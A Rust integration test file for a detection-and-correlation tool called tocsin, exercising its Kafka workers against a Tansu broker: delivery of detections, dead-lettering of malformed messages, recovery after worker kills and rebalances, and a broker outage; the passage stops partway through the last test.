//! The workers against a real Kafka-compatible broker (Tansu, started by tests/run.sh; its
//! address comes in TOCSIN_KAFKA_BOOTSTRAP).
//!
//! End to end through real `tocsin` processes: create the topics, publish a generated workload
//! plus poison messages, run `tocsin worker match`, and check that every detection `tocsin
//! match` finds offline arrives on `tocsin.detections` (same ids), that each poison message is
//! on `tocsin.dead-letter` with its reason and origin, that SIGTERM gives a clean exit 0, and
//! that a restarted worker of the same group reads nothing again (the offsets were committed;
//! unless the first worker's log shows a rebalance or a failed commit, after which reading
//! again is at-least-once as designed).
//! The fault tests kill workers with SIGKILL and make members leave their group mid-stream,
//! and check that nothing is lost and that repeats are only repeats of the same ids.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use common::{
    escalation_policy_wanting, generate_events, http_get, metric, repo, run_ok, tocsin,
    FAILED_LOGON,
};
use tocsin_kafka::sink::Sink;
use tocsin_kafka::source::Source;
use tocsin_kafka::KafkaSettings;

fn bootstrap() -> Option<String> {
    let b = std::env::var("TOCSIN_KAFKA_BOOTSTRAP").ok();
    if b.is_none() {
        eprintln!(
            "SKIPPED: TOCSIN_KAFKA_BOOTSTRAP is not set; tests/run.sh installs and starts the test broker"
        );
    }
    b
}

/// A name no other test of this run (nor an earlier run on the same broker) uses.
fn unique() -> String {
    static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let t = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis();
    format!("{}-{t}-{n}", std::process::id())
}

fn terminate(mut child: Child) -> (std::process::ExitStatus, String) {
    // SAFETY: kill(2) on our own child's pid.
    unsafe {
        libc::kill(child.id() as i32, libc::SIGTERM);
    }
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            let mut err = String::new();
            use std::io::Read as _;
            child
                .stderr
                .take()
                .unwrap()
                .read_to_string(&mut err)
                .unwrap();
            return (status, err);
        }
        assert!(
            Instant::now() < deadline,
            "worker did not stop within 60 s of SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn spawn_worker(bootstrap: &str, topic: &str, group: &str) -> Child {
    spawn_worker_with(bootstrap, topic, group, &[])
}

fn spawn_worker_with(bootstrap: &str, topic: &str, group: &str, extra: &[&str]) -> Child {
    tocsin()
        .args(["worker", "match", "--bootstrap", bootstrap, "--rules"])
        .arg(repo().join("rules"))
        .args(["--input-topic", topic, "--group", group])
        .args(["--max-event-bytes", "65536", "--batch-ms", "100"])
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start tocsin worker match")
}

#[test]
fn match_worker_delivers_every_detection_and_dead_letters_poison() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let topic = format!("test.events.{id}");
    let dir = tempfile::tempdir().unwrap();

    // Topics: created once, reported as existing the second time.
    let create = || {
        let out = run_ok(
            tocsin()
                .args(["topics", "create", "--bootstrap", &bootstrap])
                .args(["--input-topic", &topic, "--partitions", "3"]),
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let first = create();
    assert!(first.contains(&format!("created\t{topic}")), "{first}");
    assert!(
        first.contains("tocsin.correlate-state") && first.contains("tocsin.dead-letter"),
        "{first}"
    );
    let second = create();
    assert!(second.contains(&format!("exists\t{topic}")), "{second}");

    // The workload and what offline matching finds in it.
    let events = dir.path().join("events.jsonl");
    generate_events(&events, 3000, 7);
    let offline = run_ok(
        tocsin()
            .args(["match", "--rules"])
            .arg(repo().join("rules"))
            .arg("--input")
            .arg(&events),
    );
    // Each detection is published once per correlation key (keyed by it), or once keyed by
    // its id when it has none: the messages expected, as detection id -> message keys.
    let expected: BTreeMap<String, BTreeSet<String>> = String::from_utf8(offline.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| {
            let d = serde_json::from_str::<serde_json::Value>(l).unwrap();
            let id = d["id"].as_str().unwrap().to_owned();
            let mut keys: BTreeSet<String> = d["correlation_keys"]
                .as_array()
                .unwrap()
                .iter()
                .map(|k| k.as_str().unwrap().to_owned())
                .collect();
            if keys.is_empty() {
                keys.insert(id.clone());
            }
            (id, keys)
        })
        .collect();
    assert!(
        expected.len() > 20,
        "the workload should match: {}",
        expected.len()
    );
    // The line of the first detection, for the probe at the end.
    let first: serde_json::Value =
        serde_json::from_slice(offline.stdout.split(|b| *b == b'\n').next().unwrap()).unwrap();
    let probe_line = first["source"]["position"].as_u64().unwrap() as usize;

    // Publish it, with poison messages in the middle.
    let settings = KafkaSettings::new(bootstrap.clone());
    let mut sink = Sink::new(&settings).unwrap();
    let text = std::fs::read_to_string(&events).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let oversized = format!("{{\"pad\":\"{}\"}}", "x".repeat(100_000));
    let poison: Vec<(&str, Vec<u8>)> = vec![
        ("invalid-json", b"{\"EventID\": 1, ".to_vec()),
        ("invalid-utf8", b"{\"EventID\": \"\xff\xfe\"}".to_vec()),
        ("too-large", oversized.into_bytes()),
        (
            "missing-context",
            b"{\"EventID\": 1, \"Image\": \"C:\\\\x.exe\"}".to_vec(),
        ),
    ];
    for (i, line) in lines.iter().enumerate() {
        sink.send(&topic, None, line.as_bytes(), &[]).unwrap();
        if i % 700 == 0 && i / 700 < poison.len() {
            let (_, bytes) = &poison[i / 700];
            sink.send(&topic, Some(b"poison"), bytes, &[]).unwrap();
        }
    }
    sink.flush(Duration::from_secs(60)).unwrap();

    let group = format!("test-match-{id}");
    let listen = free_loopback_addr();
    let worker = spawn_worker_with(
        &bootstrap,
        &topic,
        &group,
        &["--listen", &listen.to_string()],
    );

    // Read the outputs until everything expected has arrived.
    let reader = Source::subscribe(
        &settings,
        &format!("test-reader-{id}"),
        &[
            "tocsin.detections".to_owned(),
            "tocsin.dead-letter".to_owned(),
        ],
    )
    .unwrap();
    // Detection id -> message key -> deliveries. Reading stops only when every copy of
    // every detection has arrived, so that none of the first worker's messages is left
    // unread to pass for a redelivery later.
    let mut seen: BTreeMap<String, BTreeMap<String, usize>> = BTreeMap::new();
    let all_arrived = |seen: &BTreeMap<String, BTreeMap<String, usize>>| {
        expected.iter().all(|(id, keys)| {
            seen.get(id)
                .is_some_and(|got| keys.iter().all(|k| got.contains_key(k)))
        })
    };
    // Dead letters by their source place: a batch read again after a rebalance sends its
    // poison again, as the same place.
    let mut dead: BTreeMap<(String, String), (String, String)> = BTreeMap::new();
    let deadline = Instant::now() + Duration::from_secs(180);
    while (!all_arrived(&seen) || dead.len() < poison.len()) && Instant::now() < deadline {
        // A transient consumer error (librdkafka retries) is not the test's concern.
        let Some(Ok(m)) = reader.poll(Duration::from_millis(200)) else {
            continue;
        };
        if m.topic() == "tocsin.dead-letter" {
            if m.header("tocsin.dead-letter.source-topic") == Some(topic.as_str()) {
                let place = |name: &str| {
                    m.header(name)
                        .unwrap_or_else(|| panic!("dead letter without {name}"))
                        .to_owned()
                };
                dead.insert(
                    (
                        place("tocsin.dead-letter.source-partition"),
                        place("tocsin.dead-letter.source-offset"),
                    ),
                    (
                        place("tocsin.dead-letter.kind"),
                        place("tocsin.dead-letter.reason"),
                    ),
                );
            }
            continue;
        }
        let d: serde_json::Value = serde_json::from_slice(m.payload()).unwrap();
        if !d["source"]["name"]
            .as_str()
            .unwrap_or("")
            .starts_with(&topic)
        {
            continue;
        }
        // Keyed by correlation key (by its id when it has none): checked against offline's
        // keys below.
        let key = std::str::from_utf8(m.key().unwrap()).unwrap().to_owned();
        *seen
            .entry(d["id"].as_str().unwrap().to_owned())
            .or_default()
            .entry(key)
            .or_default() += 1;
    }
    // Stopped only once it has read every message: events after a partition's last match
    // would otherwise be left for the restarted worker, which must read the probe alone.
    wait_consumed_from(listen, &topic, (lines.len() + poison.len()) as f64);
    let (status, stderr) = terminate(worker);
    assert!(status.success(), "worker exit {status}: {stderr}");

    let missing: Vec<&String> = expected.keys().filter(|e| !seen.contains_key(*e)).collect();
    assert!(
        missing.is_empty(),
        "{} of {} detections never arrived; worker said:\n{stderr}",
        missing.len(),
        expected.len()
    );
    let unexpected: Vec<&String> = seen.keys().filter(|k| !expected.contains_key(*k)).collect();
    assert!(
        unexpected.is_empty(),
        "detections offline matching does not find: {unexpected:?}"
    );
    for (id, got) in &seen {
        let keys: BTreeSet<&String> = got.keys().collect();
        assert_eq!(
            keys,
            expected[id].iter().collect(),
            "detection {id}: one message per correlation key (its id when it has none)"
        );
    }
    let mut kinds: Vec<&str> = dead.values().map(|(k, _)| k.as_str()).collect();
    kinds.sort_unstable();
    assert_eq!(
        kinds,
        [
            "invalid-json",
            "invalid-utf8",
            "missing-context",
            "too-large"
        ],
        "{dead:?}"
    );
    assert!(
        dead.values()
            .any(|(k, r)| k == "too-large" && r.contains("65536")),
        "{dead:?}"
    );

    // Everything was committed: a new member of the group reads only what comes next. One
    // new matching event (a matched line with one more field, so new bytes and a new id)
    // shows that the restarted worker has its partitions before it is stopped.
    // A redelivery after a graceful stop breaks the commit contract, unless the first worker
    // lost its partitions on the way (a rebalance, as when a heartbeat is late on a loaded
    // machine) or a commit failed: reading again from the last commit is then at-least-once
    // as designed, and the probe is still awaited behind the events read again.
    let first_stderr = stderr;
    let rebalanced = first_stderr
        .lines()
        .filter(|l| l.contains("assigned ") && l.contains(&topic))
        .count()
        > 1;
    let redelivery_allowed = rebalanced || first_stderr.contains("commit failed");
    let again = spawn_worker(&bootstrap, &topic, &group);
    let probe = format!("{{\"probe\":\"{id}\",{}", &lines[probe_line - 1][1..]);
    sink.send(&topic, None, probe.as_bytes(), &[]).unwrap();
    sink.flush(Duration::from_secs(60)).unwrap();
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut probe_seen = false;
    while !probe_seen && Instant::now() < deadline {
        // A transient consumer error (librdkafka retries) is not the test's concern.
        let Some(Ok(m)) = reader.poll(Duration::from_millis(200)) else {
            continue;
        };
        if m.topic() != "tocsin.detections" {
            continue;
        }
        let d: serde_json::Value = serde_json::from_slice(m.payload()).unwrap();
        if d["source"]["name"]
            .as_str()
            .unwrap_or("")
            .starts_with(&topic)
        {
            let id = d["id"].as_str().unwrap();
            if expected.contains_key(id) {
                assert!(
                    redelivery_allowed,
                    "detection {id} delivered again after a commit; the first worker said:\n{first_stderr}"
                );
                continue;
            }
            probe_seen = true;
        }
    }
    let (status, stderr) = terminate(again);
    assert!(
        probe_seen,
        "the restarted worker never matched the probe event:\n{stderr}"
    );
    assert!(status.success(), "restarted worker exit {status}: {stderr}");
    assert!(
        stderr.contains("match worker stopped: 1 messages"),
        "the restarted worker should read exactly the probe:\n{stderr}"
    );
}

/// Detection ids that offline matching (`tocsin match`) finds in a file of events.
fn offline_detection_ids(events: &std::path::Path) -> BTreeSet<String> {
    let out = run_ok(
        tocsin()
            .args(["match", "--rules"])
            .arg(repo().join("rules"))
            .arg("--input")
            .arg(events),
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["id"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect()
}

/// Read `tocsin.detections` and count, per detection id of events from `topic`, its
/// deliveries and its correlation keys (one delivery per key is expected).
fn read_detections(
    reader: &Source,
    topic: &str,
    seen: &mut BTreeMap<String, (usize, usize)>,
    for_at_most: Duration,
) {
    let until = Instant::now() + for_at_most;
    while Instant::now() < until {
        let Some(m) = reader.poll(Duration::from_millis(100)) else {
            continue;
        };
        // A transient consumer error (librdkafka retries) is not the test's concern.
        let Ok(m) = m else { continue };
        let d: serde_json::Value = serde_json::from_slice(m.payload()).unwrap();
        if d["source"]["name"]
            .as_str()
            .unwrap_or("")
            .starts_with(topic)
        {
            let keys = d["correlation_keys"].as_array().map_or(0, Vec::len).max(1);
            let entry = seen
                .entry(d["id"].as_str().unwrap().to_owned())
                .or_default();
            entry.0 += 1;
            entry.1 = keys;
        }
    }
}

/// Fault tests (a) and (c) of the delivery contract: a match worker killed with SIGKILL
/// mid-stream and restarted, then a second member joining and leaving the group while events
/// flow (two rebalances, the second moving partitions with work in flight). Every detection
/// of the workload must arrive; repeats are allowed only as the same ids.
///
/// The kill happens while the worker is the group's only member. Tansu 0.6.0's group
/// coordinator evicts a member that stopped heartbeating without rebalancing the group (it
/// checks session timeouts only when another request arrives, and then keeps the generation
/// and the assignment): a member killed beside live ones keeps its partitions, unread, for
/// as long as the group lives, where Kafka would rebalance after `session.timeout.ms`. That
/// is the broker's defect, not the workers'; a replacement joining an otherwise empty group
/// does get every partition once the dead member's session has expired.
#[test]
fn match_workers_lose_nothing_when_killed_or_rebalanced() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let topic = format!("test.faults.{id}");
    let dir = tempfile::tempdir().unwrap();
    run_ok(
        tocsin()
            .args(["topics", "create", "--bootstrap", &bootstrap])
            .args(["--input-topic", &topic, "--partitions", "3"]),
    );
    let events = dir.path().join("events.jsonl");
    generate_events(&events, 8000, 11);
    let expected = offline_detection_ids(&events);
    assert!(
        expected.len() > 50,
        "the workload should match: {}",
        expected.len()
    );
    let text = std::fs::read_to_string(&events).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let third = lines.len() / 3;
    let parts = [
        &lines[..third],
        &lines[third..2 * third],
        &lines[2 * third..],
    ];

    let settings = KafkaSettings::new(bootstrap.clone());
    let mut sink = Sink::new(&settings).unwrap();
    let publish = |sink: &mut Sink, part: &[&str]| {
        for (i, line) in part.iter().enumerate() {
            // Keys spread the events over the three partitions.
            let key = (i % 7).to_string();
            sink.send(&topic, Some(key.as_bytes()), line.as_bytes(), &[])
                .unwrap();
        }
        sink.flush(Duration::from_secs(60)).unwrap();
    };
    let reader = Source::subscribe(
        &settings,
        &format!("test-reader-{id}"),
        &["tocsin.detections".to_owned()],
    )
    .unwrap();
    let group = format!("test-faults-{id}");
    // Small batches so that a kill lands between batches with work in flight, and a short
    // session timeout so that the group notices the killed member quickly.
    let fast = [
        "--batch",
        "50",
        "--kafka",
        "session.timeout.ms=6000",
        "--kafka",
        "heartbeat.interval.ms=500",
        "--kafka",
        "max.poll.interval.ms=10000",
    ];
    let mut seen = BTreeMap::new();

    // (a) Kill -9 the worker once detections flow, and start a replacement. The second half
    // of the first third is published after the kill: the replacement has work even when
    // the killed worker had read and committed all it was given.
    let (first, after_kill) = parts[0].split_at(parts[0].len() / 2);
    publish(&mut sink, first);
    let mut a = spawn_worker_with(&bootstrap, &topic, &group, &fast);
    let deadline = Instant::now() + Duration::from_secs(120);
    while seen.len() < 5 && Instant::now() < deadline {
        read_detections(&reader, &topic, &mut seen, Duration::from_millis(200));
    }
    assert!(!seen.is_empty(), "no detection arrived before the kill");
    a.kill().unwrap();
    a.wait().unwrap();
    let stderr_a = {
        use std::io::Read as _;
        let mut err = String::new();
        a.stderr.take().unwrap().read_to_string(&mut err).unwrap();
        err
    };
    let before = seen.len();
    publish(&mut sink, after_kill);
    let a2 = spawn_worker_with(&bootstrap, &topic, &group, &fast);
    let deadline = Instant::now() + Duration::from_secs(120);
    while seen.len() == before && Instant::now() < deadline {
        read_detections(&reader, &topic, &mut seen, Duration::from_millis(200));
    }
    assert!(
        seen.len() > before,
        "the restarted worker delivered nothing"
    );

    // (c) A second member joins while events arrive (the partitions are shared out), then
    // leaves with work in flight (its partitions move back to the first).
    let b = spawn_worker_with(&bootstrap, &topic, &group, &fast);
    publish(&mut sink, parts[1]);
    read_detections(&reader, &topic, &mut seen, Duration::from_secs(10));
    publish(&mut sink, parts[2]);
    read_detections(&reader, &topic, &mut seen, Duration::from_secs(2));
    let (status, stderr_b) = terminate(b);
    assert!(status.success(), "worker b exit {status}: {stderr_b}");
    let deadline = Instant::now() + Duration::from_secs(180);
    while expected.iter().any(|e| !seen.contains_key(e)) && Instant::now() < deadline {
        read_detections(&reader, &topic, &mut seen, Duration::from_millis(500));
    }
    let (status, stderr_a2) = terminate(a2);
    assert!(
        status.success(),
        "restarted worker exit {status}: {stderr_a2}"
    );
    let missing: BTreeSet<&String> = expected.iter().filter(|e| !seen.contains_key(*e)).collect();
    if !missing.is_empty() {
        // Lost by the workers, or by the reader? A fresh reader says which.
        let mut again = BTreeMap::new();
        let fresh = Source::subscribe(
            &settings,
            &format!("test-reader-again-{id}"),
            &["tocsin.detections".to_owned()],
        )
        .unwrap();
        read_detections(&fresh, &topic, &mut again, Duration::from_secs(20));
        let in_topic = missing.iter().filter(|m| again.contains_key(**m)).count();
        panic!(
            "{} of {} detections lost ({in_topic} of them are in the detections topic: the first reader missed those); killed worker said:\n{stderr_a}\nworker b said:\n{stderr_b}\nrestarted worker said:\n{stderr_a2}",
            missing.len(),
            expected.len()
        );
    }
    // The rebalances happened: b was given partitions, and the restarted worker was given
    // partitions again after b left.
    assert!(
        stderr_b.contains("assigned"),
        "worker b was never assigned a partition (no rebalance to test):\n{stderr_b}"
    );
    assert!(
        stderr_a2.matches("assigned").count() >= 2,
        "the restarted worker was not given partitions again when b joined or left:\n{stderr_a2}"
    );
    let unexpected: Vec<&String> = seen.keys().filter(|k| !expected.contains(*k)).collect();
    assert!(
        unexpected.is_empty(),
        "detections offline matching does not find: {unexpected:?}"
    );
    let repeats: usize = seen.values().map(|(n, keys)| n.saturating_sub(*keys)).sum();
    eprintln!(
        "fault test: {} detections ids, {} repeated deliveries (same ids) after the kill and two rebalances",
        seen.len(),
        repeats
    );
}

/// A configuration file naming this scenario's own topics, so that scenarios sharing the
/// broker do not read each other's detections and warnings.
fn scenario_config(dir: &std::path::Path, bootstrap: &str, id: &str) -> std::path::PathBuf {
    let path = dir.join("tocsin.toml");
    let rules = repo().join("rules");
    std::fs::write(
        &path,
        format!(
            r#"[kafka]
bootstrap = "{bootstrap}"

[kafka.client]
"session.timeout.ms" = "6000"
"heartbeat.interval.ms" = "500"
"max.poll.interval.ms" = "20000"

[topics]
events = ["test.{id}.events"]
detections = "test.{id}.detections"
correlate_state = "test.{id}.state"
dead_letter = "test.{id}.dead-letter"
warnings_prefix = "test.{id}.warnings"

[rules]
paths = ["{}"]

[match]
group = "test-{id}-match"
batch = 200
batch_ms = 100

[correlate]
group = "test-{id}-correlate"
batch = 100
batch_ms = 100
"#,
            rules.display()
        ),
    )
    .unwrap();
    path
}

/// `tocsin` reading its settings from the scenario's file only: the test run's
/// TOCSIN_KAFKA_BOOTSTRAP would override the file's broker.
fn configured() -> std::process::Command {
    let mut cmd = tocsin();
    cmd.env_remove("TOCSIN_KAFKA_BOOTSTRAP");
    cmd
}

fn spawn_configured(config: &std::path::Path, worker: &str) -> Child {
    spawn_configured_with(config, worker, &[])
}

fn spawn_configured_with(config: &std::path::Path, worker: &str, extra: &[&str]) -> Child {
    configured()
        .args(["worker", worker, "--config"])
        .arg(config)
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start tocsin worker")
}

/// Warning versions read from a topic: (id, version) → every delivery's bytes.
fn read_warnings(
    reader: &Source,
    seen: &mut BTreeMap<(String, u64), Vec<Vec<u8>>>,
    for_at_most: Duration,
) {
    let until = Instant::now() + for_at_most;
    while Instant::now() < until {
        let Some(m) = reader.poll(Duration::from_millis(100)) else {
            continue;
        };
        // While the broker is away the reader reports it; librdkafka reconnects.
        let Ok(m) = m else { continue };
        let w: serde_json::Value = serde_json::from_slice(m.payload()).unwrap();
        let id = w["warning_id"].as_str().unwrap().to_owned();
        assert_eq!(m.key(), Some(id.as_bytes()), "warnings are keyed by id");
        assert_eq!(
            m.header("tocsin.warning.version"),
            Some(w["version"].to_string().as_str())
        );
        seen.entry((id, w["version"].as_u64().unwrap()))
            .or_default()
            .push(m.payload().to_vec());
    }
}

/// The latest version of each warning `tocsin run` issues offline for `events`.
fn offline_final_warnings(events: &std::path::Path) -> BTreeMap<String, serde_json::Value> {
    let out = run_ok(
        tocsin()
            .args(["run", "-q", "--rules"])
            .arg(repo().join("rules"))
            .arg("--input")
            .arg(events),
    );
    let warnings: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    common::latest_versions(&warnings)
}

/// Fault test (b), and the correlate worker end to end: events → `worker match` →
/// detections → `worker correlate` → warnings, with the correlate worker killed with SIGKILL
/// after the first warnings and restarted. Every warning `tocsin run` issues offline must
/// arrive at its final version, byte for byte; repeats must be byte-identical copies of a
/// version; and the restarted worker must have restored its partitions' state from the
/// changelog (a restart from scratch would issue the versions again from 1 and skip none).
#[test]
fn correlate_worker_restores_state_after_kill_and_issues_every_warning() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let config = scenario_config(dir.path(), &bootstrap, &id);
    // States longer than 512 bytes are written in parts: the restart must assemble them. One
    // state a second at most: the kill lands after batches that waited for the next write,
    // and the restart replays them from the state before.
    set_correlate(
        &config,
        "state_record_bytes = 512\nstate_interval_ms = 1000\n",
    );
    let check = run_ok(configured().args(["config", "check"]).arg(&config));
    assert!(String::from_utf8_lossy(&check.stdout).contains("ok"));
    create_topics(&config, 3);
    let (events, expected) = campaign_workload(dir.path());
    assert!(
        expected.len() >= 3,
        "the workload should warn: {expected:?}"
    );

    // One event partition, so that each key's detections keep the file's order (as offline).
    let settings = KafkaSettings::new(bootstrap.clone());
    let mut sink = Sink::new(&settings).unwrap();
    let text = std::fs::read_to_string(&events).unwrap();
    publish_to_partition_0(&mut sink, &format!("test.{id}.events"), text.lines());

    let reader = Source::subscribe(
        &settings,
        &format!("test-{id}-reader"),
        &[format!("test.{id}.warnings.technical")],
    )
    .unwrap();
    let matcher = spawn_configured(&config, "match");
    let (correlator, listen) = spawn_listening(&config, "correlate");
    let mut seen = BTreeMap::new();
    let deadline = Instant::now() + Duration::from_secs(120);
    while seen.len() < 3 && Instant::now() < deadline {
        read_warnings(&reader, &mut seen, Duration::from_millis(200));
    }
    assert!(seen.len() >= 3, "no warnings before the kill: {seen:?}");
    // A state longer than a record written before the kill (the first batch's are shorter).
    wait_metric(
        listen,
        "tocsin_state_bytes_total",
        |v| v.unwrap_or(0.0) >= 4096.0,
        "no state longer than a record was written",
    );
    // Counted when queued; acknowledged in the same batch, well within this.
    std::thread::sleep(Duration::from_millis(500));
    let mut correlator = correlator.take();
    correlator.kill().unwrap();
    correlator.wait().unwrap();
    let restarted = spawn_configured(&config, "correlate");
    read_until_final_versions(&reader, &expected, &mut seen, Duration::from_secs(180));
    // Late repeats, if any, arrive now.
    read_warnings(&reader, &mut seen, Duration::from_secs(2));
    let (status, restarted_err) = terminate(restarted);
    assert!(
        status.success(),
        "correlate worker exit {status}: {restarted_err}"
    );
    let (status, matcher_err) = terminate(matcher);
    assert!(
        status.success(),
        "match worker exit {status}: {matcher_err}"
    );

    assert_final_versions(&expected, &seen, &restarted_err);
    assert!(
        restarted_err.contains("state restored up to offset")
            && !restarted_err
                .lines()
                .filter(|l| l.contains("state restored up to offset"))
                .all(|l| l.contains("offset 0 ")),
        "the restarted worker restored no state:\n{restarted_err}"
    );
    assert!(
        restarted_err.contains("; read from "),
        "the restarted worker read no state written in parts:\n{restarted_err}"
    );
    let repeats: usize = seen.values().map(|c| c.len() - 1).sum();
    eprintln!(
        "fault test (b): {} warning versions, {} repeated deliveries; restarted worker: {}",
        seen.len(),
        repeats,
        restarted_err.lines().last().unwrap_or("")
    );
}

/// Every warning of `expected` arrived at its final version, identical to offline's; no
/// version beyond it, no unexpected warning, and repeats are identical copies.
fn assert_final_versions(
    expected: &BTreeMap<String, serde_json::Value>,
    seen: &BTreeMap<(String, u64), Vec<Vec<u8>>>,
    worker_said: &str,
) {
    for (wid, w) in expected {
        let version = w["version"].as_u64().unwrap();
        let got = seen.get(&(wid.clone(), version)).unwrap_or_else(|| {
            panic!("warning {wid} version {version} never arrived; the worker said:\n{worker_said}")
        });
        let got: serde_json::Value = serde_json::from_slice(&got[0]).unwrap();
        assert_eq!(&got, w, "final version of {wid} differs from offline");
        let newest = seen.keys().filter(|(i, _)| i == wid).map(|(_, v)| *v).max();
        assert_eq!(
            newest,
            Some(version),
            "{wid}: a version beyond offline's final"
        );
    }
    for ((wid, version), copies) in seen {
        assert!(expected.contains_key(wid), "unexpected warning {wid}");
        assert!(
            copies.iter().all(|c| c == &copies[0]),
            "{wid} v{version} delivered with different contents"
        );
    }
}

/// A Tansu broker of this test's own, with SQLite storage in `dir`, on `port`.
fn start_broker(tansu: &str, dir: &std::path::Path, port: u16) -> Child {
    let url = format!("tcp://127.0.0.1:{port}");
    let child = std::process::Command::new(tansu)
        .args(["broker", "--silent", "--listener-url", &url])
        .args(["--advertised-listener-url", &url])
        .args(["--storage-engine", "sqlite://tansu.db"])
        .current_dir(dir)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start tansu");
    let deadline = Instant::now() + Duration::from_secs(30);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "tansu did not listen on {port}");
        std::thread::sleep(Duration::from_millis(100));
    }
    child
}

/// Fault tests (d) and (f): `worker all` against a broker with durable (SQLite) storage that
/// goes away mid-stream for several seconds and comes back. While it is away the worker
/// keeps running (fetching paused, offsets not committed); afterwards every warning of the
/// workload arrives at its final version, as offline.
#[test]
fn workers_survive_a_broker_restart_with_nothing_lost() {
    let Some(_) = bootstrap() else { return };
    let Ok(tansu) = std::env::var("TOCSIN_TANSU") else {
        eprintln!("SKIPPED: TOCSIN_TANSU is not set; tests/run.sh installs the test broker");
        return;
    };
    let port = free_loopback_addr().port();
    let broker_dir = tempfile::tempdir().unwrap();
    let mut broker = start_broker(&tansu, broker_dir.path(), port);
    let bootstrap = format!("127.0.0.1:{port}");
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let config = scenario_config(dir.path(), &bootstrap, &id);
    create_topics(&config, 3);
    let (events, expected) = campaign_workload(dir.path());
    let text = std::fs::read_to_string(&events).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let (first_half, second_half) = lines.split_at(lines.len() / 2);
    let publish = |part: &[&str]| {
        let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
        for line in part {
            sink.send_to(
                &format!("test.{id}.events"),
                Some(0),
                None,
                line.as_bytes(),
                &[],
            )
            .unwrap();
        }
        sink.flush(Duration::from_secs(60)).unwrap();
    };
    publish(first_half);
    let listen = free_loopback_addr();
    let mut worker = spawn_configured_with(&config, "all", &["--listen", &listen.to_string()]);
    let reader = Source::subscribe(
        &KafkaSettings::new(bootstrap.clone()),
        &format!("test-{id}-reader"),
        &[format!("test.{id}.warnings.technical")],
    )
    .unwrap();
    let mut seen = BTreeMap::new();
    let deadline = Instant::now() + Duration::from_secs(120);
    while seen.is_empty() && Instant::now() < deadline {
        read_warnings(&reader, &mut seen, Duration::from_millis(200));
    }
    assert!(!seen.is_empty(), "no warning before the broker restart");
    // The operator's view while the stream flows: ready, and the series move.
    let events_series = format!("tocsin_events_total{{source=\"test.{id}.events\"}}");
    let wait_ready = |want: bool, within: Duration| {
        let until = Instant::now() + within;
        loop {
            let (code, body) = http_get(listen, "/readyz");
            if (code == 200) == want {
                return body;
            }
            assert!(
                Instant::now() < until,
                "/readyz stayed {code} ({body}) for {within:?}"
            );
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    wait_ready(true, Duration::from_secs(15));
    let (_, before) = http_get(listen, "/metrics");
    let events_before = metric(&before, &events_series).expect("events by source");
    assert!(events_before > 0.0);
    // Lag is a gauge that may be 0 at this moment: the series must exist.
    let lag = lag_series(&format!("test.{id}.events"), 0);
    assert!(metric(&before, &lag).is_some(), "{lag} missing:\n{before}");
    for series in [
        "tocsin_detections_total{rule=",
        "tocsin_warnings_total{",
        "tocsin_broker_reachable",
        "tocsin_state_records_total",
        "tocsin_batch_duration_seconds_count{worker=\"correlate\"}",
        "tocsin_event_to_warning_seconds_count",
    ] {
        assert!(
            metric(&before, series).is_some_and(|v| v > 0.0),
            "{series} missing or zero:\n{before}"
        );
    }

    // (d)/(f): the broker goes away for 8 s.
    // SAFETY: kill(2) on our own child's pid.
    unsafe {
        libc::kill(broker.id() as i32, libc::SIGTERM);
    }
    broker.wait().unwrap();
    let outage = Instant::now();
    // Readiness follows the broker (Kubernetes stops routing to, and KEDA scaling on, a
    // worker that cannot reach it).
    let why = wait_ready(false, Duration::from_secs(8));
    assert!(why.contains("broker"), "{why}");
    std::thread::sleep(Duration::from_secs(8).saturating_sub(outage.elapsed()));
    assert!(
        worker.try_wait().unwrap().is_none(),
        "the worker gave up while the broker was away"
    );
    // Backpressure: nothing more is fetched while the output waits, so memory stays flat.
    let rss_during_outage = resident_kib(worker.id());
    let mut broker = start_broker(&tansu, broker_dir.path(), port);
    publish(second_half);
    read_until_final_versions(&reader, &expected, &mut seen, Duration::from_secs(240));
    read_warnings(&reader, &mut seen, Duration::from_secs(2));
    wait_ready(true, Duration::from_secs(30));
    // Every event is counted once the tail of the stream (after the campaign) is read.
    let until = Instant::now() + Duration::from_secs(60);
    let after = loop {
        let (_, after) = http_get(listen, "/metrics");
        let n = metric(&after, &events_series).unwrap_or(0.0);
        if n >= lines.len() as f64 || Instant::now() > until {
            break after;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let events_after = metric(&after, &events_series).unwrap();
    assert!(
        events_after >= lines.len() as f64 && events_after > events_before,
        "events counted: {events_before} then {events_after}"
    );
    assert_dashboards_use_exposed_metrics(&after);
    // Bounded queues (64 MB prefetch, 64 MB producer queue) plus rules and state: far below
    // this, whatever the outage did.
